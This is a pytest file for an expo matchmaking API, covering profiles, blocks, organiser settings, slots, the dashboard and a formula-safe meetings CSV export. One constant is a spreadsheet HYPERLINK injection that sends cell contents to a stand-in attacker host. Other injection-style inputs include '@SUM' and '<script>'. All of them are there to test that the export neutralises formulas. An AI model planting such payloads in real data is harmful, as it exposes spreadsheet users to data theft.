"""Matchmaking profiles, blocks, the organisers' slots and settings, seats, the dashboard and
the meetings CSV, over a real server on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlmodel import col, select

from expo.models import Account, Role
from matchmaking.models import (
    MatchAvailability,
    MatchSlot,
    Meeting,
    MeetingRequest,
    RequestStatus,
)
from tests.live import LiveServer, Peer, live_server, make_settings, prepare_demo_database
from tests.services import fresh_postgres_database

PASSWORD = "云上贵州-数据之都-2026"
ATTENDEE = "attendee@demo.shubo.live"
EXHIBITOR = "exhibitor@demo.shubo.live"  # staff of exhibitor 1
ORGANIZER = "organizer@demo.shubo.live"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
async def expo(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[LiveServer]:
    if request.param == "sqlite":
        url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('match') / 'expo.db'}"
        await prepare_demo_database(url)
        async with live_server(make_settings(url)) as live:
            yield live
    else:
        async with fresh_postgres_database() as url:
            await prepare_demo_database(url)
            async with live_server(make_settings(url)) as live:
                yield live


async def call(
    server: LiveServer, method: str, path: str, cookie: str | None, body: Any = None
) -> tuple[int, Any]:
    async with server.http() as http:
        response = await http.request(
            method, path, json=body, headers={"Cookie": cookie} if cookie else {}
        )
    if response.headers.get("content-type", "").startswith("application/json"):
        return response.status_code, response.json()
    return response.status_code, response.content


async def newcomer(server: LiveServer, name: str = "新人 Newcomer") -> tuple[int, str]:
    body = {
        "email": f"match-{secrets.token_hex(5)}@example.com",
        "password": PASSWORD,
        "display_name": name,
        "organisation": "黔算云 Qiansuan",
    }
    async with server.http() as http:
        response = await http.post("/api/accounts", json=body)
    assert response.status_code == 201, response.text
    return response.json()["account"]["id"], f"expo_session={response.cookies['expo_session']}"


async def slot_ids(server: LiveServer) -> list[int]:
    status, body = await call(server, "GET", "/api/match/slots", await server.sign_in(ATTENDEE))
    assert status == 200, body
    return [s["id"] for s in body["slots"]]


def profile(**changes: Any) -> dict[str, Any]:
    return {
        "intents": ["buy", "partner"],
        "industries": ["data-trading", "computing-power"],
        "offer": "  贵州大学数据科学团队，提供数据治理咨询\u202e  ",
        "need": "寻找算力与数据交易合作伙伴",
        "languages": ["zh", "en"],
        "available": [],
        "visible": True,
    } | changes


async def test_the_demo_is_seeded_with_slots_and_profiles(expo: LiveServer):
    slots = await slot_ids(expo)
    assert len(slots) == 24
    cookie = await expo.sign_in(ATTENDEE)
    status, body = await call(expo, "GET", "/api/match/profile", cookie)
    assert status == 200 and body["profile"]["version"] >= 1, body
    assert body["profile"]["industries"] and body["profile"]["available"]
    # A synthetic participant signs in with the demo's password and has a profile too.
    status, body = await call(
        expo,
        "GET",
        "/api/match/profile",
        await expo.sign_in("match007@participants.demo.shubo.live"),
    )
    assert status == 200 and body["profile"]["offer"], body


async def test_a_profile_round_trip_is_cleaned_versioned_and_announced(expo: LiveServer):
    me, cookie = await newcomer(expo)
    status, empty = await call(expo, "GET", "/api/match/profile", cookie)
    assert status == 200 and empty["profile"]["version"] == 0 and empty["profile"]["offer"] == ""
    slots = await slot_ids(expo)
    async with expo.connect(await expo.sign_in(ORGANIZER)) as ws:
        organiser = Peer(ws)
        assert (await organiser.command("subscribe", {"topic": "match-organisers:all"}))[
            "type"
        ] == "ok"
        body = profile(available=[slots[3], slots[0], slots[3]], version=0)
        status, saved = await call(expo, "PUT", "/api/match/profile", cookie, body)
        assert status == 200, saved
        changed = await organiser.event("match.profile_changed")
    assert changed["data"] == {"account": me, "version": 1}
    view = saved["profile"]
    assert view["offer"] == "贵州大学数据科学团队，提供数据治理咨询"  # the bidi override is gone
    assert view["industries"] == ["computing-power", "data-trading"]  # the vocabulary's order
    assert view["available"] == sorted([slots[0], slots[3]])
    assert view["version"] == 1 and view["exhibitor"] is None
    status, again = await call(expo, "GET", "/api/match/profile", cookie)
    assert again["profile"] == view
    # Another participant sees it; and a save without a version replaces whatever is stored.
    status, seen = await call(
        expo, "GET", f"/api/match/profiles/{me}", await expo.sign_in(ATTENDEE)
    )
    assert status == 200 and seen["profile"]["need"] == view["need"], seen
    status, saved = await call(expo, "PUT", "/api/match/profile", cookie, profile(offer="Data"))
    assert status == 200 and saved["profile"]["version"] == 2


async def test_a_stale_save_is_refused_and_changes_nothing(expo: LiveServer):
    _, cookie = await newcomer(expo)
    status, _ = await call(expo, "PUT", "/api/match/profile", cookie, profile(version=0))
    assert status == 200
    status, body = await call(
        expo, "PUT", "/api/match/profile", cookie, profile(offer="后来者", version=0)
    )
    assert status == 409 and body["error"]["code"] == "match.stale", body
    status, body = await call(expo, "GET", "/api/match/profile", cookie)
    assert body["profile"]["version"] == 1 and body["profile"]["offer"] != "后来者"


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"available": [999_999]}, "match.unknown_slot"),
        ({"intents": ["steal"]}, "match.unknown_intent"),
        ({"industries": ["mining"]}, "match.unknown_industry"),
        ({"offer": "数" * 301}, "match.text_too_long"),
        ({"languages": ["<script>"]}, "match.unknown_language"),
    ],
)
async def test_a_bad_profile_is_refused_with_its_reason(expo: LiveServer, changes, code):
    _, cookie = await newcomer(expo)
    status, body = await call(expo, "PUT", "/api/match/profile", cookie, profile(**changes))
    assert status == 400 and body["error"]["code"] == code, body
    status, body = await call(expo, "GET", "/api/match/profile", cookie)
    assert body["profile"]["version"] == 0


async def test_staff_speak_for_their_company(expo: LiveServer):
    cookie = await expo.sign_in(EXHIBITOR)
    status, body = await call(expo, "PUT", "/api/match/profile", cookie, profile(intents=["sell"]))
    assert status == 200, body
    assert body["profile"]["exhibitor"]["id"] == 1 and body["profile"]["exhibitor"]["name_zh"]
    status, seen = await call(
        expo,
        "GET",
        f"/api/match/profiles/{body['profile']['account']}",
        await expo.sign_in(ATTENDEE),
    )
    assert seen["profile"]["exhibitor"]["id"] == 1


async def test_a_block_hides_both_ways_until_lifted(expo: LiveServer):
    one, one_cookie = await newcomer(expo, "甲 One")
    other, other_cookie = await newcomer(expo, "乙 Other")
    for cookie in (one_cookie, other_cookie):
        assert (await call(expo, "PUT", "/api/match/profile", cookie, profile()))[0] == 200
    assert (await call(expo, "GET", f"/api/match/profiles/{other}", one_cookie))[0] == 200
    status, body = await call(expo, "POST", f"/api/match/blocks/{other}", one_cookie)
    assert status == 200 and body == {"account": other, "blocked": True}
    assert (await call(expo, "POST", f"/api/match/blocks/{other}", one_cookie))[0] == 200
    for viewer, seen in ((one_cookie, other), (other_cookie, one)):
        status, body = await call(expo, "GET", f"/api/match/profiles/{seen}", viewer)
        assert status == 404 and body["error"]["code"] == "match.unknown_profile", body
    status, body = await call(expo, "GET", "/api/match/blocks", one_cookie)
    assert [b["account"] for b in body["blocked"]] == [other]
    assert body["blocked"][0]["name"] == "乙 Other"
    status, body = await call(expo, "GET", "/api/match/blocks", other_cookie)
    assert body["blocked"] == []  # who blocked you is not told
    assert (await call(expo, "DELETE", f"/api/match/blocks/{other}", one_cookie))[0] == 200
    assert (await call(expo, "GET", f"/api/match/profiles/{one}", other_cookie))[0] == 200
    status, body = await call(expo, "POST", f"/api/match/blocks/{one}", one_cookie)
    assert status == 400 and body["error"]["code"] == "match.self"
    status, body = await call(expo, "POST", "/api/match/blocks/999999", one_cookie)
    assert status == 404 and body["error"]["code"] == "match.unknown_account"
    status, body = await call(expo, "POST", f"/api/match/hidden/{other}", one_cookie)
    assert status == 200 and body["hidden"] is True
    assert (await call(expo, "GET", f"/api/match/profiles/{other}", one_cookie))[0] == 200
    assert (await call(expo, "DELETE", f"/api/match/hidden/{other}", one_cookie))[0] == 200


async def test_an_invisible_or_missing_profile_is_unknown_to_others(expo: LiveServer):
    me, cookie = await newcomer(expo)
    viewer = await expo.sign_in(ATTENDEE)
    status, body = await call(expo, "GET", f"/api/match/profiles/{me}", viewer)
    assert status == 404 and body["error"]["code"] == "match.unknown_profile"
    await call(expo, "PUT", "/api/match/profile", cookie, profile(visible=False))
    assert (await call(expo, "GET", f"/api/match/profiles/{me}", viewer))[0] == 404
    assert (await call(expo, "GET", f"/api/match/profiles/{me}", cookie))[0] == 200


async def test_settings_are_the_organisers_alone(expo: LiveServer):
    attendee, organiser = await expo.sign_in(ATTENDEE), await expo.sign_in(ORGANIZER)
    wanted = {"open_request_cap": 12, "default_seats": 3}
    for method in ("GET", "PUT"):
        status, body = await call(expo, method, "/api/match/settings", attendee, wanted)
        assert status == 403, body
    status, before = await call(expo, "GET", "/api/match/settings", organiser)
    version = before["settings"]["version"]
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, wanted | {"version": version}
    )
    queues = {"queue_call_window": 60, "queue_grace": 120, "queue_overtake_cap": 2}  # defaults
    assert status == 200 and body["settings"] == wanted | queues | {"version": version + 1}, body
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, wanted | {"version": version}
    )
    assert status == 409 and body["error"]["code"] == "match.stale"
    # The booth queues' settings: changed when given, kept when left out, bounded.
    faster = {"queue_call_window": 45, "queue_grace": 300, "queue_overtake_cap": 3}
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, wanted | faster | {"version": version + 1}
    )
    assert status == 200 and body["settings"] == wanted | faster | {"version": version + 2}
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, wanted | {"version": version + 2}
    )
    assert status == 200 and body["settings"]["queue_call_window"] == 45
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, wanted | {"queue_overtake_cap": 11}
    )
    assert status == 400
    status, body = await call(
        expo, "PUT", "/api/match/settings", organiser, {"open_request_cap": 0, "default_seats": 3}
    )
    assert status == 400
    status, body = await call(expo, "PUT", "/api/match/slots", attendee, {"slots": []})
    assert status == 403


async def test_seats_are_set_by_that_booths_staff_or_organisers(expo: LiveServer):
    other_id, other_cookie = await newcomer(expo, "别家展商 Other staff")
    async with expo.services.db() as db:
        account = await db.get(Account, other_id)
        account.role, account.exhibitor_id = Role.EXHIBITOR, 2
        await db.commit()
    staff_of_two = other_cookie  # the role is read per request
    own = await expo.sign_in(EXHIBITOR)
    status, body = await call(expo, "PUT", "/api/exhibitors/1/match-seats", own, {"seats": 4})
    assert status == 200 and body == {"exhibitor": 1, "seats": 4}, body
    status, body = await call(
        expo, "PUT", "/api/exhibitors/1/match-seats", staff_of_two, {"seats": 9}
    )
    assert status == 403, body
    status, body = await call(
        expo, "PUT", "/api/exhibitors/1/match-seats", await expo.sign_in(ATTENDEE), {"seats": 9}
    )
    assert status == 403
    status, body = await call(
        expo, "PUT", "/api/exhibitors/2/match-seats", await expo.sign_in(ORGANIZER), {"seats": 5}
    )
    assert status == 200 and body["seats"] == 5
    status, body = await call(expo, "GET", "/api/exhibitors/1/match-seats", own)
    assert body == {"exhibitor": 1, "seats": 4}
    status, body = await call(expo, "PUT", "/api/exhibitors/1/match-seats", own, {"seats": 0})
    assert status == 400


async def meeting_in(
    server: LiveServer, slot_id: int, requester: int, recipient: int, note: str = ""
) -> int:
    """A confirmed meeting, inserted as the meetings part would store one."""
    async with server.services.db() as db:
        request = MeetingRequest(
            requester_id=requester,
            recipient_id=recipient,
            exhibitor_id=1,
            note=note,
            status=RequestStatus.ACCEPTED,
        )
        db.add(request)
        await db.flush()
        assert request.id is not None
        meeting = Meeting(
            request_id=request.id,
            requester_id=requester,
            recipient_id=recipient,
            exhibitor_id=1,
            slot_id=slot_id,
            seat=0,
        )
        db.add(meeting)
        await db.commit()
        assert meeting.id is not None
        return meeting.id


async def test_slots_are_replaced_but_one_with_meetings_stays(expo: LiveServer):
    organiser = await expo.sign_in(ORGANIZER)
    status, body = await call(expo, "GET", "/api/match/slots", organiser)
    slots = body["slots"]
    one, two = await newcomer(expo), await newcomer(expo)
    held = slots[-1]
    await meeting_in(expo, held["id"], one[0], two[0])
    # Dropping the slot that holds a meeting is refused, and nothing changes.
    status, body = await call(expo, "PUT", "/api/match/slots", organiser, {"slots": slots[:-1]})
    assert status == 409 and body["error"]["code"] == "match.slot_in_use", body
    assert body["error"]["details"]["slots"] == [held["id"]]
    shorter = datetime.fromisoformat(held["ends_at"]) - timedelta(minutes=10)
    moved = held | {"ends_at": shorter.isoformat()}
    status, body = await call(
        expo, "PUT", "/api/match/slots", organiser, {"slots": [*slots[:-1], moved]}
    )
    assert status == 409, body
    assert len(await slot_ids(expo)) == len(slots)
    # Dropping a free slot (with people's availability in it) and adding a new one.
    dropped = slots[0]
    ends = datetime.fromisoformat(held["ends_at"])
    new = {"starts_at": ends.isoformat(), "ends_at": (ends + timedelta(minutes=30)).isoformat()}
    status, body = await call(
        expo, "PUT", "/api/match/slots", organiser, {"slots": [*slots[1:], new]}
    )
    assert status == 200, body
    ids = [s["id"] for s in body["slots"]]
    assert dropped["id"] not in ids and held["id"] in ids and len(ids) == len(slots)
    async with expo.services.read() as db:
        left = await db.execute(
            select(MatchAvailability).where(col(MatchAvailability.slot_id) == dropped["id"])
        )
        assert left.first() is None
        assert await db.get(MatchSlot, dropped["id"]) is None
    # Overlapping slots are refused.
    overlapping = {"starts_at": held["starts_at"], "ends_at": held["ends_at"]}
    status, body = await call(
        expo, "PUT", "/api/match/slots", organiser, {"slots": [*body["slots"], overlapping]}
    )
    assert status == 400 and body["error"]["code"] == "match.slots_overlap"


async def test_the_dashboard_counts_and_the_csv_is_formula_safe(expo: LiveServer):
    organiser = await expo.sign_in(ORGANIZER)
    status, before = await call(expo, "GET", "/api/match/dashboard", organiser)
    assert status == 200, before
    before = before["dashboard"]
    evil_id, evil_cookie = await newcomer(expo, EVIL)
    other_id, other_cookie = await newcomer(expo, "+86 10 1234")
    for cookie in (evil_cookie, other_cookie):
        await call(expo, "PUT", "/api/match/profile", cookie, profile())
    slots = await slot_ids(expo)
    meeting = await meeting_in(expo, slots[1], evil_id, other_id, note="@SUM(A1:A9)")
    async with expo.services.db() as db:
        db.add(MeetingRequest(requester_id=other_id, recipient_id=evil_id, status="declined"))
        db.add(MeetingRequest(requester_id=evil_id, recipient_id=other_id))
        await db.commit()
    status, after = await call(expo, "GET", "/api/match/dashboard", organiser)
    after = after["dashboard"]
    assert after["requests"]["total"] == before["requests"]["total"] + 3
    assert after["requests"]["accepted"] == before["requests"]["accepted"] + 1
    assert after["requests"]["declined"] == before["requests"]["declined"] + 1
    assert after["requests"]["pending"] == before["requests"]["pending"] + 1
    assert after["meetings"] == before["meetings"] + 1
    assert after["participants"] == before["participants"] + 2
    accepted, declined = after["requests"]["accepted"], after["requests"]["declined"]
    assert after["acceptance_rate"] == round(accepted / (accepted + declined), 4)
    assert sum(b["people"] for b in after["per_participant"]) == after["participants"]
    assert after["without_meeting"]["count"] == sum(
        b["people"] for b in after["per_participant"] if b["meetings"] == 0
    )
    assert after["busiest_exhibitors"][0]["exhibitor"]["id"] == 1
    # Attendees see none of it.
    attendee = await expo.sign_in(ATTENDEE)
    assert (await call(expo, "GET", "/api/match/dashboard", attendee))[0] == 403
    assert (await call(expo, "GET", "/api/match/meetings.csv", attendee))[0] == 403
    status, raw = await call(expo, "GET", "/api/match/meetings.csv", organiser)
    assert status == 200 and raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    row = next(r for r in rows[1:] if r[0] == str(meeting))
    header = rows[0]
    assert row[header.index("requester")] == "'" + EVIL
    assert row[header.index("recipient")] == "'+86 10 1234"
    assert row[header.index("note")] == "'@SUM(A1:A9)"
    assert row[header.index("exhibitor_zh")]


async def test_the_dashboard_counts_who_asked_apart_from_who_never_had_a_request(
    expo: LiveServer,
):
    """The headline "without a meeting" is over people who asked (sent a request or accepted
    one), as the scheduler counts them; profiles without any request are a figure of their own.
    """
    organiser = await expo.sign_in(ORGANIZER)
    before = (await call(expo, "GET", "/api/match/dashboard", organiser))[1]["dashboard"]
    asker, asker_cookie = await newcomer(expo, "提问者 Asker")
    asked, asked_cookie = await newcomer(expo, "被问者 Asked")
    quiet, quiet_cookie = await newcomer(expo, "旁观者 Quiet")
    for cookie in (asker_cookie, asked_cookie, quiet_cookie):
        await call(expo, "PUT", "/api/match/profile", cookie, profile())
    async with expo.services.db() as db:
        db.add(MeetingRequest(requester_id=asker, recipient_id=asked))  # pending: asked sent none
        await db.commit()
    after = (await call(expo, "GET", "/api/match/dashboard", organiser))[1]["dashboard"]
    assert after["asked_without_meeting"]["count"] == before["asked_without_meeting"]["count"] + 1
    assert after["without_request"]["count"] == before["without_request"]["count"] + 1
    listed = {p["account"] for p in after["asked_without_meeting"]["people"]}
    assert quiet not in listed and asked not in listed
    # The recipient accepts (still unplaced): now both sides asked and neither has a meeting.
    async with expo.services.db() as db:
        db.add(
            MeetingRequest(requester_id=quiet, recipient_id=asked, status=RequestStatus.CANCELLED)
        )
        row = (
            await db.execute(
                select(MeetingRequest).where(col(MeetingRequest.requester_id) == asker)
            )
        ).scalar_one()
        row.status = RequestStatus.ACCEPTED
        await db.commit()
    last = (await call(expo, "GET", "/api/match/dashboard", organiser))[1]["dashboard"]
    assert last["asked_without_meeting"]["count"] == before["asked_without_meeting"]["count"] + 2
    # A withdrawn request is no asking, but it is a request: "quiet" leaves "without any".
    assert last["without_request"]["count"] == before["without_request"]["count"]
    assert last["without_meeting"]["count"] == before["without_meeting"]["count"] + 3
